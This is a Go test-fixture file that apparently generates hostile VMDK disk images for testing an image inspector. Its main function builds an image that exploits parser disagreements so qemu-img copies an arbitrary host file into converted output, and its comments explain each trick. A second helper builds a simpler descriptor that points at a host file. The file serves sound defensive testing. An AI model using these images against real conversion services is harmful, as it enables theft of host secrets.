package testimages

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"testing"
)

// HostileVMDK writes hostile.vmdk, a 2 KiB sparse VMDK that an inspector
// reading its embedded descriptor line by line takes for one
// monolithicSparse extent, while qemu-img 7.2 reads secret, a host file, as
// a second, FLAT extent and copies it into whatever it converts to
// (CVE-2022-47951 class). The disk qemu sees is secret's size rounded up to
// 512-byte sectors (8 sectors when secret does not exist here). secret
// should be an absolute path: qemu resolves a relative one against the
// image's directory.
//
// How the two parsers disagree:
//   - the KDMV header says capacity 0, which makes qemu read the embedded
//     descriptor as a whole descriptor file (vmdk_open_vmdk4);
//   - qemu takes the first "createType" substring, here in
//     xcreateType="monolithicFlat", a type that may name other files;
//     a line-anchored parser sees createType="monolithicSparse";
//   - qemu reads extent lines with sscanf, so "+8" is a sector count; a
//     parser that wants digits sees no extent there;
//   - qemu skips "RW 0 SPARSE", an extent of no sectors, which the other
//     parser takes as the one extent.
func HostileVMDK(t testing.TB, dir, secret string) string {
	t.Helper()
	desc := "# Disk DescriptorFile\n" +
		"version=1\n" +
		"CID=12345678\n" +
		"parentCID=ffffffff\n" +
		"xcreateType=\"monolithicFlat\"\n" +
		"createType=\"monolithicSparse\"\n" +
		"\n" +
		"# Extent description\n" +
		"RW 0 SPARSE \"hostile.vmdk\"\n" +
		fmt.Sprintf("RW +%d FLAT \"%s\" 0\n", fileSectors(secret), secret) +
		"\n" +
		"# The Disk Data Base\n" +
		"#DDB\n" +
		"ddb.virtualHWVersion = \"4\"\n"
	const descSectors = 3
	if len(desc) >= descSectors*512 {
		t.Fatalf("the secret's path is too long for the descriptor: %q", secret)
	}
	img := make([]byte, (1+descSectors)*512)
	h := img[:512]
	copy(h, "KDMV")
	le := binary.LittleEndian
	le.PutUint32(h[4:], 1)              // version
	le.PutUint32(h[8:], 1)              // flags: valid newline detection
	le.PutUint64(h[12:], 0)             // capacity: 0 sectors
	le.PutUint64(h[20:], 128)           // granularity
	le.PutUint64(h[28:], 1)             // descriptor offset, in sectors
	le.PutUint64(h[36:], descSectors)   // descriptor size, in sectors
	le.PutUint32(h[44:], 512)           // grain table entries per table
	le.PutUint64(h[56:], 1+descSectors) // grain directory: at the end
	le.PutUint64(h[64:], 1+descSectors) // grains
	copy(h[73:], "\n \r\n")
	copy(img[512:], desc)
	return write(t, filepath.Join(dir, "hostile.vmdk"), img)
}

// FlatExtentVMDK writes flat-extent.vmdk, a hand-made VMDK descriptor file
// (createType monolithicFlat) whose one FLAT extent is target, a host file.
// qemu-img reads target as the disk's data: the disk is target's size
// rounded up to 512-byte sectors (8 sectors when target does not exist
// here). target should be an absolute path.
func FlatExtentVMDK(t testing.TB, dir, target string) string {
	t.Helper()
	desc := "# Disk DescriptorFile\n" +
		"version=1\n" +
		"CID=12345678\n" +
		"parentCID=ffffffff\n" +
		"createType=\"monolithicFlat\"\n" +
		"\n" +
		"# Extent description\n" +
		fmt.Sprintf("RW %d FLAT \"%s\" 0\n", fileSectors(target), target) +
		"\n" +
		"# The Disk Data Base\n" +
		"#DDB\n" +
		"ddb.virtualHWVersion = \"4\"\n"
	return write(t, filepath.Join(dir, "flat-extent.vmdk"), []byte(desc))
}

// fileSectors is the size of the file at path in 512-byte sectors, rounded
// up, and 8 when it cannot be read here.
func fileSectors(path string) int64 {
	st, err := os.Stat(path)
	if err != nil || st.Size() == 0 {
		return 8
	}
	return (st.Size() + 511) / 512
}
